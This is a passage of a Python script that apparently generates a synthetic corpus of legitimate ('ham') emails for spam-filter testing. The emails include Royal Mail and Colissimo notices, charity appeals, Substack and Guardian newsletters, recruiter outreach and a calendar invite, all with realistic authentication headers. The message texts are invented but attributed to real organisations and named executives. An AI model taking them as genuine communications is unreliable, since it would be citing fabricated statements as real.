    add('ham', 'DTC brand shipping notice through AfterShip click tracker', frm=('Outdoor Voices', 'orders@outdoorvoices.com'), to=who('iris'),
        subject='Your Outdoor Voices order is on the way', date=d, infra='sendgrid', text=text, html=html)

    # Royal Mail
    d = rdate(off=0)
    tn = '%s%s%sGB' % (rs(2, string.ascii_uppercase), rdig(8), rdig(1))
    text, html = txn('Royal Mail', '#e1251b', 'Your parcel is on its way',
                     ['Hello,', 'Your item from Waterstones is with us and we expect to deliver it %s.' % (d + dt.timedelta(days=1)).strftime('on %A %-d %B')],
                     rows=[('Tracking number', tn), ('Service', 'Royal Mail Tracked 48')],
                     cta='Track your item', url='https://www.royalmail.com/track-your-item#/tracking-results/%s' % tn,
                     after=["We'll let you know when it's been delivered.",
                            'Royal Mail will never ask you to pay a fee by email or text for a parcel that has already been paid for.'],
                     footer=['Royal Mail Group Limited, registered in England and Wales, number 4138203. 185 Farringdon Road, London, EC1A 1AA.'])
    add('ham', 'Royal Mail parcel tracking notice', frm=('Royal Mail', 'no-reply@royalmail.com'), to=who('owen'),
        subject='Your Royal Mail parcel is on its way', date=d, infra='ses', region='eu-west-1', text=text, html=html)

    # Colissimo
    d = rdate(off=1)
    tn = '6A%s' % rdig(11)
    text, html = txn('Colissimo', '#ffc900', 'Votre colis est en cours de livraison',
                     ['Bonjour,', 'Votre colis %s expédié par Fnac est en cours de livraison et vous sera remis aujourd\'hui.' % tn],
                     rows=[('Numéro de colis', tn), ('Livraison prévue', 'aujourd\'hui entre 12h et 14h')],
                     cta='Suivre mon colis', url='https://www.laposte.fr/outils/suivre-vos-envois?code=%s' % tn,
                     after=["En cas d'absence, votre colis sera disponible dans votre bureau de poste dès demain."],
                     footer=['La Poste - Société anonyme au capital de 5 620 325 816 euros - 356 000 000 RCS Paris'], lang='fr')
    add('ham', 'Colissimo French delivery notice', frm=('Colissimo', 'noreply@notification.colissimo.fr'), to=P['camille'],
        subject='Votre colis %s est en cours de livraison' % tn, date=d, infra='postfix', host='smtpout.notification.colissimo.fr',
        text=text, html=html, dmarc_p='reject')


# ============================================================================
# HAM 8: crowdfunding and charity (6)
# ============================================================================
def ham_charity():
    d = rdate()
    text = '''Update #14: Production samples are here!

Hi backers,

After two rounds of revisions, the first production samples of the Tidy Desk Organizer arrived at our studio last Tuesday. The walnut finish came out beautifully, and the magnetic cable channels now hold a USB-C cable without sagging, which was the big fix from the last round.

A few honest notes:
- The felt lining on the phone stand is thinner than we wanted. The factory is sourcing a 3mm felt and we'll see a new sample in about two weeks.
- Our shipping partner has confirmed pricing for the EU, so we'll open the pledge manager for EU backers next week.
- We're still on track to ship in %s, as long as the felt sample is approved on the first try.

Photos and a short video of the samples are on the update page:
https://www.kickstarter.com/projects/%s/tidy-desk-organizer/posts/%s

Thanks for your patience and all the great questions in the comments.

Mira & Tobias

You're receiving this because you backed Tidy Desk Organizer. Manage your project notifications: https://www.kickstarter.com/profile/notifications
Kickstarter, PBC, 475 10th Avenue, 9th Floor, New York, NY 10018
''' % (pick(['March', 'April', 'May', 'September', 'October']), rdig(9), rdig(7))
    add('ham', 'Kickstarter backer project update', frm=('Tidy Desk Organizer via Kickstarter', 'no-reply@kickstarter.com'), to=who('sam'),
        subject='Project Update #14: Tidy Desk Organizer - Production samples are here!', date=d, infra='sendgrid', text=text, unsub=True)

    d = rdate()
    url = 'https://www.gofundme.com/f/help-the-okafor-family-rebuild?utm_campaign=p_cp+share-sheet&utm_medium=email&utm_source=customer'
    text = '''Hi Jonah,

I'm reaching out to share a fundraiser I started: Help the Okafor family rebuild after the fire.

Last Sunday a fire started in the apartment below the Okafors' and spread upstairs. Everyone got out safely, including their dog Biscuit, but they lost almost everything. Ngozi and Emeka are staying with Ngozi's sister for now, and the kids are back at school this week.

Anything helps, and sharing the link helps just as much.

%s

Thank you,
Maya

Sent by Maya Okafor through GoFundMe.
GoFundMe, 1 Harbor Drive, Suite 100, Sausalito, CA 94965
''' % url
    add('ham', 'GoFundMe share from a friend for a family fundraiser', frm=('Maya Okafor via GoFundMe', 'no-reply@gofundme.com'), to=who('jonah'),
        reply_to=('Maya Okafor', 'maya.okafor.nyc@gmail.com'), subject='Maya Okafor shared a fundraiser with you', date=d, infra='sendgrid',
        text=text, html=simple_html(text.split('\n\n'), gmail=True))

    d = rdate((2025, 11, 25), (2025, 12, 31))
    text, html = mkt('Wikipedia', '#3366cc', 'A quick ask, just this once',
                     ['Dear reader,', "We'll get right to it: this week we ask readers in the United States to support Wikipedia's independence. Just 2% of readers give, so if Wikipedia has given you $2.75 worth of knowledge this year, please give back.",
                      'Wikipedia is not for sale. No ads, no paywalls, no selling your data. It is written by volunteers and funded by readers like you.',
                      'Thank you,\nMaryana Iskander, Wikimedia Foundation CEO'],
                     'Donate now', 'https://donate.wikimedia.org/?wmf_medium=email&wmf_campaign=%s&wmf_source=%s' % (d.strftime('C%y_emEN_US'), rl(10)),
                     preheader='Please support Wikipedia today.', unsub_url='https://donate.wikimedia.org/wiki/Special:FundraiserUnsubscribe?p=%s' % rhex(20),
                     footer=['Wikimedia Foundation, Inc., PO Box 98204, Washington, DC 20090-8204, USA'], variant=2)
    add('ham', 'Wikipedia year-end donation appeal', frm=('Wikimedia Foundation', 'donate@wikimedia.org'), to=who('owen'),
        subject='A quick ask from Wikipedia', date=d, infra='postfix', host='mx1001.wikimedia.org', selector='wikimedia', text=text, html=html, unsub=True,
        dmarc_p='reject')

    d = rdate((2025, 12, 20), (2025, 12, 31), hours=(12, 22))
    text, html = mkt('Doctors Without Borders', '#ee0000', 'Your gift will be matched until midnight',
                     ['Dear Friend,', 'A group of generous donors has pledged to match every gift made before midnight tonight, up to $500,000.',
                      "That means your donation will go twice as far to bring emergency medical care to people caught in conflict, epidemics and disasters in more than 70 countries.",
                      'Please give before the year ends.'],
                     'Double my gift', trk('sfmc', 'e.doctorswithoutborders.org'), preheader='Every dollar doubled until midnight.',
                     unsub_url=trk('sfmc', 'e.doctorswithoutborders.org'), footer=['Doctors Without Borders/Médecins Sans Frontières (MSF) USA, 40 Rector Street, 16th Floor, New York, NY 10006'], variant=0)
    add('ham', 'MSF year-end matched-gift fundraising deadline', frm=('Doctors Without Borders', 'donate@e.doctorswithoutborders.org'), to=who('nadia'),
        subject='⏰ Midnight deadline: your gift will be DOUBLED', date=d, infra='sfmc', esp_sub='e.doctorswithoutborders.org',
        dkim_dom='e.doctorswithoutborders.org', text=text, html=html, unsub=True)

    d = rdate()
    text, html = mkt('American Red Cross', '#ed1b2e', 'Blood donors needed now',
                     ['The Red Cross is experiencing a shortage of type O blood and platelets. Donors of all blood types are urgently needed.',
                      'Schedule an appointment in the next two weeks and we\'ll send you a $15 e-gift card to a merchant of your choice, as a thank-you.',
                      'Appointments are available near you this week.'],
                     'Schedule now', trk('sfmc', 'email.redcross.org'), unsub_url=trk('sfmc', 'email.redcross.org'),
                     footer=['American Red Cross, 431 18th Street NW, Washington, DC 20006'], variant=0,
                     fine='Terms apply. See RedCrossBlood.org/Thanks.')
    add('ham', 'Red Cross blood donation appeal with gift-card thank-you', frm=('American Red Cross', 'RedCross@email.redcross.org'), to=who('hollis'),
        subject='Urgent need: type O donors (and a $15 thank-you)', date=d, infra='sfmc', esp_sub='email.redcross.org',
        dkim_dom='email.redcross.org', text=text, html=html, unsub=True)

    d = rdate()
    text = '''Dear Nadia,

Your EFF membership is set to expire on %s. We hope you'll renew today.

This year EFF lawyers, activists and technologists went to court to defend encryption, helped defeat bills that would have forced age verification on every website, and released new versions of Privacy Badger and Certbot, used by millions.

None of that happens without members. Renew now and keep your name on the list of people who fight for digital freedom:
https://supporters.eff.org/donate/renew?mid=%s

Thank you for standing with us.

Cindy Cohn
Executive Director, Electronic Frontier Foundation

EFF is a U.S. 501(c)(3) nonprofit. Tax ID 04-3091431.
815 Eddy Street, San Francisco, CA 94109
To update your email preferences: https://supporters.eff.org/civicrm/mailing/optout?reset=1&jid=%s&qid=%s&h=%s
''' % ((d + dt.timedelta(days=14)).strftime('%B %-d, %Y'), rdig(6), rdig(5), rdig(7), rhex(16))
    add('ham', 'EFF membership renewal reminder, plain text from CiviCRM', frm=('Electronic Frontier Foundation', 'membership@eff.org'), to=who('nadia'),
        subject='Your EFF membership expires soon', date=d, infra='postfix', host='mail2.eff.org', text=text,
        unsub='<https://supporters.eff.org/civicrm/mailing/optout?reset=1&jid=%s&qid=%s&h=%s>, <mailto:optout.%s.%s@supporters.eff.org>' % (rdig(5), rdig(7), rhex(16), rdig(5), rhex(16)),
        headers=[('X-CiviMail-Bounce', 'b.%s.%s.%s@supporters.eff.org' % (rdig(5), rdig(7), rhex(16)))], dmarc_p='quarantine')


# ============================================================================
# HAM 9: newsletters, Substack/Beehiiv/Ghost, advocacy, news (10)
# ============================================================================
def ham_newsletters():
    # Substack 1
    d = rdate()
    url = trk('substack')
    paras = ['Every weekday at 7:42 a.m., the same eleven people wait at the Fulton Street stop for the B63. I know this because I have been one of them for three years, and because last month the bus stopped coming on time.',
             'What changed was not the bus. It was a new signal-priority pilot, announced with a press release and a ribbon, that quietly shifted green time from the cross streets to the avenue. The avenue buses got faster. Ours, which crosses the avenue rather than running along it, now waits at that light for a full cycle, sometimes two.',
             "I spent the last three weeks with a stopwatch and a spreadsheet. Below is what I found, what the DOT told me when I asked, and what I think the city should measure instead of average route speed.",
             'Paid subscribers can read the full data and the DOT correspondence. Free subscribers get the summary: the pilot saved the average avenue rider 41 seconds and cost the average cross-town rider at Fulton 2 minutes 10 seconds.']
    text, html = mkt('The Commute', '#ff6719', 'The bus got faster. Mine got slower.', paras, 'Read in app', url,
                     preheader='What a signal-priority pilot did to the cross-town riders nobody counted.', unsub_url=trk('substack'),
                     footer=['© 2025 Marisol Ortega', '548 Market Street PMB 72296, San Francisco, CA 94104'], variant=2,
                     signoff='- Marisol', links=[('Like', trk('substack')), ('Comment', trk('substack')), ('Restack', trk('substack'))])
    add('ham', 'Substack newsletter essay on local transit', frm=('Marisol Ortega from The Commute', 'thecommute@substack.com'), to=who('maya'),
        subject='The bus got faster. Mine got slower.', date=d, infra='mailgun', mg_dom='mg1.substack.com', dkim_dom='substack.com',
        text=text, html=html, unsub=True, headers=[('List-Id', '<thecommute.substack.com>'), ('X-Mailgun-Tag', 'post')])

    # Substack 2 - paid post teaser
    d = rdate()
    text, html = mkt('Tidewater Dispatch', '#1d4e89', 'Inside the harbor commission vote',
                     ["Good morning. Tuesday's harbor commission meeting ran nearly five hours, and the final 4-3 vote on the dredging contract came after 11 p.m., when most of the public had gone home.",
                      'Here is what you need to know: who voted which way, what changed in the last-minute amendment, and why the contractor who lost the bid has already filed a protest.',
                      'This post is for paid subscribers. If you are a free subscriber, you can read the first section below, and upgrading is $6 a month.'],
                     'Upgrade to paid', trk('substack'), preheader='A 4-3 vote after 11 p.m., and a protest already filed.',
                     unsub_url=trk('substack'), footer=['© 2026 Tidewater Dispatch', '548 Market Street PMB 72296, San Francisco, CA 94104'], variant=2)
    add('ham', 'Substack local-news newsletter with paywall teaser', frm=('Tidewater Dispatch', 'tidewaterdispatch@substack.com'), to=who('hollis'),
        subject='Inside the harbor commission vote', date=d, infra='mailgun', mg_dom='mg1.substack.com', dkim_dom='substack.com',
        text=text, html=html, unsub=True, headers=[('List-Id', '<tidewaterdispatch.substack.com>')])

    # Beehiiv
    d = rdate()
    text, html = mkt('Hardware Brief', '#0f172a', "Today's Brief: RISC-V laptops, a $40 e-ink dev kit, and DRAM prices",
                     ["Welcome back. Here's what happened in hardware this week, in five minutes or less.",
                      '1. A second RISC-V laptop shipped to developers. Early benchmarks put it roughly at a 2019 Core i5, which is slow but usable, and the battery numbers are better than expected.',
                      '2. A $40 e-ink dev kit sold out in four hours. The maker says a second batch ships in six weeks.',
                      '3. DRAM contract prices rose for the third straight quarter. If you were planning a workstation build, earlier is probably cheaper.',
                      "That's it for today. Hit reply and tell me what you're building - I read every response."],
                     'Read online', trk('beehiiv'), preheader='Plus: why your next RAM upgrade costs more.', unsub_url=trk('beehiiv'),
                     footer=['Hardware Brief, 228 Park Ave S, New York, NY 10003'], variant=1,
                     fine='Sponsored: Try Framework Marketplace for refurbished laptop parts.')
    add('ham', 'Beehiiv tech newsletter with sponsor line', frm=('Hardware Brief', 'hardwarebrief@mail.beehiiv.com'), to=who('tom'),
        subject="Today's Brief: RISC-V laptops, a $40 e-ink dev kit, and DRAM prices", date=d, infra='sendgrid', dkim_dom='mail.beehiiv.com',
        text=text, html=html, unsub=True)

    # Ghost
    d = rdate()
    text, html = mkt('Field Notes', '#15212a', 'Notes from a week of foraging on the coast',
                     ['The chanterelles came early this year. By the second week of October the trails behind the dunes were dotted with them, and the usual Saturday crowd had already found the easy patches near the parking lot.',
                      'This issue is about the harder ones, and about what three years of keeping a notebook has taught me about where they come back.',
                      'As always, if you are new here: never eat anything you have identified only from photos. Go out with someone who knows.'],
                     'Read the full post', 'https://fieldnotes.ghost.io/notes-from-a-week-of-foraging/?ref=newsletter', preheader='Chanterelles came early this year.',
                     unsub_url='https://fieldnotes.ghost.io/unsubscribe/?uuid=%s&key=%s' % (ruuid(), rhex(64)),
                     footer=['Field Notes © 2025 - Unsubscribe'], variant=2)
    add('ham', 'Ghost-powered personal newsletter via Mailgun', frm=('Field Notes', 'noreply@fieldnotes.ghost.io'), to=who('iris'),
        reply_to=('Field Notes', 'hello@fieldnotes.ghost.io'), subject='Notes from a week of foraging on the coast', date=d, infra='mailgun',
        mg_dom='mg.ghost.io', dkim_dom='ghost.io', text=text, html=html, unsub=True)

    # ACLU advocacy
    d = rdate()
    text, html = mkt('ACLU', '#0055aa', 'Tell your representative: protect our privacy from warrantless surveillance',
                     ['Jonah,', 'Congress is about to vote on extending a surveillance authority that lets government agencies read Americans\' emails and texts without a warrant.',
                      "We've seen this before: reauthorizations rushed through with promises of reform that never arrive. This time, lawmakers need to hear from constituents before the vote.",
                      'It takes less than a minute to send a message. We will deliver it directly to your representative\'s office.'],
                     'Send your message', 'https://action.aclu.org/send-message/surveillance-reform?ms=em_%s' % rl(8), preheader='The vote could happen this week.',
                     unsub_url='https://action.aclu.org/unsubscribe?ms=em_%s' % rl(8), footer=['American Civil Liberties Union, 125 Broad Street, 18th Floor, New York, NY 10004'], variant=0)
    add('ham', 'ACLU advocacy action alert', frm=('ACLU', 'action@aclu.org'), to=who('jonah'),
        subject='Urgent: vote on warrantless surveillance this week', date=d, infra='sparkpost', text=text, html=html, unsub=True)

    # League of Women Voters
    d = rdate((2026, 10, 1), (2026, 10, 30))
    text, html = mkt('League of Women Voters', '#002f6c', 'Make your plan to vote',
                     ['Election Day is Tuesday, November 3. Here\'s how to make sure your vote counts.',
                      'Check your registration at VOTE411.org. Find your polling place, early voting hours, and what\'s on your ballot.',
                      'Voting by mail? Return your ballot as early as possible and track it online.'],
                     'Get your voter guide', 'https://www.vote411.org/?utm_source=lwv&utm_medium=email', unsub_url='https://www.lwv.org/unsubscribe?e=%s' % rhex(20),
                     footer=['League of Women Voters of the United States, 1233 20th Street NW, Suite 500, Washington, DC 20036'], variant=1)
    add('ham', 'Nonpartisan get-out-the-vote newsletter', frm=('League of Women Voters', 'lwv@lwv.org'), to=who('dana'),
        subject='Your voting plan for November 3', date=d, infra='brevo', text=text, html=html, unsub=True)

    # Morning Brew
    d = rdate(hours=(5, 7))
    text, html = mkt('Morning Brew', '#000000', 'Good morning. Markets are at record highs and nobody knows why.',
                     ['MARKETS: The S&P 500 closed at another record yesterday, its fourth this month, led by chipmakers and, oddly, regional banks.',
                      'TECH: A major phone maker quietly raised the price of its base storage tier by $50. Expect others to follow.',
                      'RETAIL: Holiday hiring plans are the lowest since 2009, according to a new survey of large retailers.',
                      'WORD OF THE DAY: "Shrinkflation" is back, and this time it\'s coming for your coffee pods.'],
                     'Read today\'s Brew', trk('sparkpost', 'links.morningbrew.com'), preheader='Plus: the coffee pod shrinkflation saga.',
                     unsub_url=trk('sparkpost', 'links.morningbrew.com'), footer=['Morning Brew Inc., 22 W 19th St, 4th Floor, New York, NY 10011'], variant=1)
    add('ham', 'Morning Brew daily business newsletter', frm=('Morning Brew', 'crew@morningbrew.com'), to=who('raj'),
        subject='☕ Nobody knows why', date=d, infra='sparkpost', text=text, html=html, unsub=True)

    # Guardian
    d = rdate(off=0, hours=(5, 7))
    text, html = mkt('The Guardian', '#052962', 'First Edition',
                     ['Good morning. Ministers are facing pressure from their own backbenches over plans to cut winter fuel support, with more than 40 MPs signing a letter overnight.',
                      'Elsewhere: flooding in the north-west has closed two mainline railways, and a long-awaited review of water company regulation will be published at 10am.',
                      'In sport, England named an unchanged side for Saturday\'s Test.'],
                     'Read the full newsletter', 'https://www.theguardian.com/world/series/first-edition/latest?CMP=firstedition_email',
                     unsub_url='https://manage.theguardian.com/email-prefs?listId=%s' % rdig(4), footer=['Guardian News & Media Limited, Kings Place, 90 York Way, London N1 9GU'], variant=2)
    add('ham', 'The Guardian morning news briefing', frm=('The Guardian', 'newsletters@theguardian.com'), to=who('owen'),
        subject='First Edition: Backbench revolt over winter fuel cuts', date=d, infra='ses', region='eu-west-1', text=text, html=html, unsub=True)

    # Le Monde (French)
    d = rdate(off=1, hours=(6, 8))
    text, html = mkt('Le Monde', '#000000', 'La Matinale du Monde',
                     ['Bonjour, voici l\'essentiel de l\'actualité ce matin.',
                      'Budget : le gouvernement présente aujourd\'hui ses arbitrages, après une semaine de négociations avec les groupes parlementaires.',
                      'Climat : les températures de l\'automne ont battu un nouveau record en Europe de l\'Ouest, selon Copernicus.',
                      'Culture : notre sélection des expositions à voir ce week-end à Paris et en région.'],
                     'Lire la Matinale', 'https://www.lemonde.fr/?xtor=EPR-%s' % rdig(5), unsub_url='https://secure.lemonde.fr/sfuser/newsletters?xtor=%s' % rdig(6),
                     footer=['Société éditrice du Monde, 67-69 avenue Pierre-Mendès-France, 75013 Paris'], variant=2, lang='fr')
    add('ham', 'Le Monde French morning newsletter', frm=('Le Monde', 'newsletters@lemonde.fr'), to=P['lucas'],
        subject='La Matinale du Monde - Budget, climat, expositions', date=d, infra='sparkpost', text=text, html=html, unsub=True)

    # heise (German)
    d = rdate(off=1)
    text = '''heise online Newsletter
%s

Liebe Leserin, lieber Leser,

hier sind die wichtigsten Meldungen des Tages:

* Kritische Lücke in verbreitetem VPN-Client: Hersteller liefert Update
  https://www.heise.de/news/%s.html?wt_mc=nl.red.ho.ho-nl-daily.%s

* Bundesnetzagentur: Glasfaserausbau hinkt Zielen weiter hinterher
  https://www.heise.de/news/%s.html?wt_mc=nl.red.ho.ho-nl-daily.%s

* Test: Drei Balkonkraftwerke mit Speicher im Vergleich
  https://www.heise.de/tests/%s.html?wt_mc=nl.red.ho.ho-nl-daily.%s

Viele Grüße
Ihre heise-Redaktion

--
Newsletter abbestellen: https://www.heise.de/newsletter/manage?u=%s
Heise Medien GmbH & Co. KG, Karl-Wiechert-Allee 10, 30625 Hannover
''' % (d.strftime('%d.%m.%Y'), rdig(8), d.strftime('%Y-%m-%d'), rdig(8), d.strftime('%Y-%m-%d'), rdig(8), d.strftime('%Y-%m-%d'), rhex(24))
    add('ham', 'heise German tech news newsletter, plain text', frm=('heise online', 'newsletter@heise.de'), to=P['felix'],
        subject='heise online: Kritische Lücke in VPN-Client, Glasfaserausbau, Balkonkraftwerke im Test', date=d, infra='postfix',
        host='mx1.heise.de', text=text, charset='utf-8', text_cte='quoted-printable', unsub=True, one_click=True)


# ============================================================================
# HAM 10: recruiters' cold mail (4)
# ============================================================================
def ham_recruiters():
    d = rdate(hours=(8, 11))
    text = '''Hi Nadia,

I came across your talk from PyData on incremental dbt models and the write-up on your team's blog, and wanted to reach out directly.

I'm on the recruiting team at Ramp, and we're hiring a Staff Data Engineer for our Finance Automation group. The team owns the pipelines behind spend insights and accounting sync - a lot of messy, high-volume event data and a lot of room to shape how it's modeled.

A few details:
- Remote within the US, or hybrid in NYC
- Base range $230k-$280k plus equity
- Stack: Snowflake, dbt, Dagster, Kafka, Python

Would you be open to a 20-minute call next week? Even if the timing isn't right, happy to keep in touch.

Best,
Jordan

Jordan Pike
Technical Recruiter, Ramp
'''
    add('ham', "Recruiter's personalised cold outreach via Google Workspace", frm=('Jordan Pike', 'jordan.pike@ramp.com'), to=who('nadia'),
        subject='Staff Data Engineer at Ramp - quick chat?', date=d, infra='google', text=text,
        html=simple_html(text.strip().split('\n\n')), dmarc_p='reject')

    d = rdate()
    text, html = txn('LinkedIn', '#0a66c2', 'Sarah Kim sent you a message',
                     ['Sarah Kim, Talent Partner at Northwind Health (3rd)', 'Opportunity: Senior Product Designer (Remote, US)',
                      "Hi Devin - I'm leading design hiring at Northwind Health. We're rebuilding our patient app from the ground up and your portfolio work on the Northfield booking flow caught my eye. The role is senior IC, fully remote, and the range is $175k-$205k. Open to a quick chat?"],
                     cta='Reply', url='https://www.linkedin.com/comm/messaging/thread/2-%s/?lipi=urn%%3Ali%%3Apage%%3Aemail_email_inmail_single_01' % rb64u(30),
                     after=['You are receiving InMail notification emails. Unsubscribe: https://www.linkedin.com/comm/psettings/email-unsubscribe?lipi=%s' % rb64u(20)],
                     footer=['This email was intended for Devin Hartley (Senior Product Designer at Northfield Studio)', '© 2025 LinkedIn Corporation, 1000 West Maude Avenue, Sunnyvale, CA 94085.'])
    add('ham', 'LinkedIn InMail recruiter notification', frm=('Sarah Kim via LinkedIn', 'inmail-hit-reply@linkedin.com'), to=who('devin'),
        subject='Opportunity: Senior Product Designer (Remote, US)', date=d, infra='postfix', host='maile-ec.linkedin.com', selector='d2048-1',
        text=text, html=html, unsub=True, dmarc_p='reject')

    d = rdate(off=2)
    text = '''Hallo Frau Vogelsang,

ich hoffe, es geht Ihnen gut. Mein Name ist Anja Köhler, ich bin Personalberaterin bei Hays in Hamburg und betreue Positionen im Bereich Digital & Design.

Aktuell suche ich für einen unserer Kunden, ein mittelständisches Unternehmen aus der Logistikbranche mit Sitz in Hamburg, eine Senior UX Designerin (m/w/d) in Festanstellung. Ihr Profil auf LinkedIn – insbesondere Ihre Erfahrung mit Design-Systemen und B2B-Anwendungen – passt sehr gut zu den Anforderungen.

Eckdaten:
- Hybrides Arbeiten (2 Tage vor Ort)
- Gehaltsrahmen 75.000 – 85.000 EUR
- 30 Tage Urlaub, Jobrad, Weiterbildungsbudget

Hätten Sie Interesse an einem kurzen, unverbindlichen Telefonat in den nächsten Tagen?

Viele Grüße
Anja Köhler

Hays AG | Senior Recruiting Consultant
Kaiser-Wilhelm-Straße 93, 20355 Hamburg
T: +49 40 5555 0183
'''
    add('ham', 'German agency recruiter outreach from Microsoft 365', frm=('Anja Köhler', 'anja.koehler@hays.de'), to=P['katrin'],
        subject='Interessante Position als Senior UX Designerin (m/w/d) in Hamburg', date=d, infra='m365', text=text,
        html=simple_html(text.strip().split('\n\n'), gmail=False), lang_tag='de-DE', dmarc_p='reject', tenant='hays')

    d = rdate()
    text, html = txn('Linear', '#5e6ad2', 'Please share your availability',
                     ['Hi Tomasz,', "Thanks again for your time with Maya on the phone! We'd love to move forward with the next round of interviews for the Senior Software Engineer, Sync Engine role.",
                      'The next stage is a 90-minute technical session followed by a 45-minute conversation with the team. Please share your availability for the next two weeks using the link below.'],
                     cta='Share availability', url='https://app.ashbyhq.com/scheduling/%s' % ruuid(),
                     after=['If none of the times work, just reply to this email and we\'ll figure something out.', 'Best,', 'Linear Recruiting'],
                     footer=['Sent via Ashby on behalf of Linear'], variant=2)
    add('ham', 'Interview scheduling request via Ashby ATS', frm=('Linear Recruiting', 'no-reply@ashbyhq.com'), to=who('tom'),
        reply_to=('Linear Recruiting', 'recruiting@linear.app'), subject='Linear - please share your availability', date=d, infra='sendgrid',
        text=text, html=html)


# ============================================================================
# HAM 11: small businesses' own newsletters from shared hosting, no DKIM (3)
# ============================================================================
def ham_smallbiz():
    d = rdate((2025, 9, 20), (2025, 10, 20))
    text = '''Hello friends of the bakery!

Pumpkin loaves are BACK starting this Friday. Same recipe as last year (yes, with the brown butter glaze), and we'll bake them every Friday and Saturday through Thanksgiving.

HOLIDAY PRE-ORDERS
Pre-orders for pies, stollen and our cranberry-orange bread open on November 1. Last year we sold out of pies in four days, so set a reminder! You'll be able to order at the counter or on our website.

NEW HOURS
Starting in November we'll open at 7am on weekdays (instead of 7:30). Weekend hours stay the same, 8am to 3pm.

WE'RE HIRING
Looking for a part-time counter person for weekend mornings. Must love bread and be OK with 6:30am starts. Just reply to this email.

Thanks for supporting a small local bakery. See you soon!

Ruth & the Harrow & Finch crew
412 Maple Street, Beacon, NY 12508
(845) 555-0127
www.harrowfinchbakery.com

You're getting this because you signed up at the counter or on our website. To stop receiving these emails, reply with "unsubscribe".
'''
    html = html_page('<div style="max-width:600px;margin:0 auto;font-family:Georgia,serif;font-size:16px;line-height:1.5;color:#3a2c1e;padding:20px">'
                     + ''.join('<p>%s</p>' % esc(p).replace('\n', '<br>') for p in text.strip().split('\n\n')) + '</div>',
                     'Harrow & Finch news', 'Pumpkin loaves are back!', bg='#fdf8f0')
    add('ham', 'Small bakery newsletter from shared hosting (PHPMailer, no DKIM)', frm=('Harrow & Finch Bakery', 'news@harrowfinchbakery.com'),
        to=who('jonah'), subject='Pumpkin loaves are back + holiday pre-orders', date=d, infra='cpanel', host='box5183.bluehost.com',
        text=text, html=html, no_dkim=True, dmarc_p=None, headers=[('X-Mailer', 'PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)')],
        source_args='php-fpm: pool harrowfi', cpuser='harrowfi')

    d = rdate((2026, 3, 1), (2026, 4, 15))
    text = '''Ridgeline Bike Works - Spring Newsletter

Spring is here and the trails are (mostly) dry!

SPRING TUNE-UP SPECIAL: $79 (reg. $99) through April 30
Includes drivetrain cleaning, brake and gear adjustment, wheel true, and safety check. Book online or just drop it off - turnaround is 3-5 days right now, and it will get longer in May.

SATURDAY SHOP RIDES ARE BACK
No-drop group ride every Saturday at 8:30am from the shop. About 25 miles, coffee stop at the halfway point. All bikes welcome, helmets required.

NEW IN THE SHOP
We now carry Santa Cruz e-bikes. Demo bikes are available on weekends - call ahead to reserve one.

See you out there,
Marco, Jess & the RBW crew

Ridgeline Bike Works
1820 N Main St, Boulder, CO 80302
303-555-0164
'''
    add('ham', 'Local bike shop newsletter from GoDaddy shared hosting, Outlook desktop client', frm=('Ridgeline Bike Works', 'shop@ridgelinebikeworks.com'),
        to=who('sam'), subject='Spring tune-up special + Saturday shop rides are back', date=d, infra='cpanel',
        host='p3plzcpnl505123.prod.phx3.secureserver.net', webmail=True, text=text, no_dkim=True, dmarc_p=None,
        headers=[('X-Mailer', 'Microsoft Outlook 16.0'), ('Thread-Index', 'Ado' + rb64(15)), ('Content-Language', 'en-us')],
        bstyle='nextpart', html=simple_html(text.strip().split('\n\n'), gmail=False))

    d = rdate((2025, 9, 1), (2025, 10, 30), off=2)
    text = '''Liebe Weinfreunde,

der Herbst ist da, und mit ihm die ersten Weine des neuen Jahrgangs!

NEU IM SORTIMENT
- 2024er Riesling trocken, Weingut Hahnmühle (Nahe) - 12,90 EUR
- 2023er Spätburgunder "Alte Reben", Weingut Ziereisen (Baden) - 24,50 EUR
- 2022er Blaufränkisch Ried Hochberg, Weingut Moric (Burgenland) - 29,00 EUR

VERKOSTUNG AM SAMSTAG
Am kommenden Samstag von 11 bis 16 Uhr laden wir Sie herzlich zur Herbstverkostung ein. Es gibt 12 Weine zum Probieren und kleine Häppchen von der Käserei Möller nebenan. Der Eintritt ist frei.

Wie immer gilt: Ab 12 Flaschen liefern wir im Stadtgebiet kostenlos.

Herzliche Grüße aus dem Laden
Ihr Thomas Brenner

Weinhandlung Brenner
Schlüterstraße 14, 20146 Hamburg
Tel. 040 555 01 92
Öffnungszeiten: Di-Fr 11-19 Uhr, Sa 10-16 Uhr

Wenn Sie diesen Newsletter nicht mehr erhalten möchten, antworten Sie bitte einfach mit "Abmelden".
'''
    add('ham', 'German wine shop newsletter, ISO-8859-1 8bit, Thunderbird, no DKIM', frm=('Weinhandlung Brenner', 'info@weinhandlung-brenner.de'),
        to=P['katrin'], subject='Neue Weine im Herbst & Verkostung am Samstag', date=d, infra='postfix', host='dd12345.kasserver.com',
        submit_from='[192.168.178.34]'.replace('192.168.178.34', rip()), auth_user='m0712345', text=text, charset='iso-8859-1',
        text_cte='8bit', hcs='iso-8859-1', no_dkim=True, dmarc_p=None, spf='pass', hstyle='tbird', bstyle='tbird',
        headers=[('User-Agent', 'Mozilla Thunderbird'), ('Content-Language', 'de-DE')])


# ============================================================================
# HAM 12: calendar invitations (5)
# ============================================================================
def ham_calendar():
    # Google Calendar internal invite
    d = rdate((2025, 6, 2), (2025, 7, 10), off=-4)
    st = (d + dt.timedelta(days=3)).replace(hour=14, minute=0, second=0)
    en = st + dt.timedelta(hours=1)
    org_ = P['devin']
    att = [(P['maya'][0], P['maya'][1], 'REQ-PARTICIPANT'), (P['sam'][0], P['sam'][1], 'REQ-PARTICIPANT'), (org_[0], org_[1], 'REQ-PARTICIPANT')]
    uid = '%s@google.com' % rl(26)
    meet = 'https://meet.google.com/%s-%s-%s' % (rl(3), rl(4), rl(3))
    desc = 'Agenda:\n1. Q2 retro (15 min)\n2. Q3 roadmap draft - see doc\n3. Hiring plan\n\nJoin with Google Meet: %s' % meet
    ics = make_ics('REQUEST', uid, st, en, 'Q3 planning review', (org_[0], org_[1]), att, 'Studio - Big Room', desc, stamp=d)
    when = '%s ⋅ 2pm – 3pm (Eastern Time - New York)' % st.strftime('%A %b %-d, %Y')
    text = '''Q3 planning review
%s

Join with Google Meet
%s

Location
Studio - Big Room

Organizer
Devin Hartley
devin.hartley@northfield-studio.example

Guests
Devin Hartley - organizer
Maya Okafor
Sam Whitcombe

Agenda:
1. Q2 retro (15 min)
2. Q3 roadmap draft - see doc
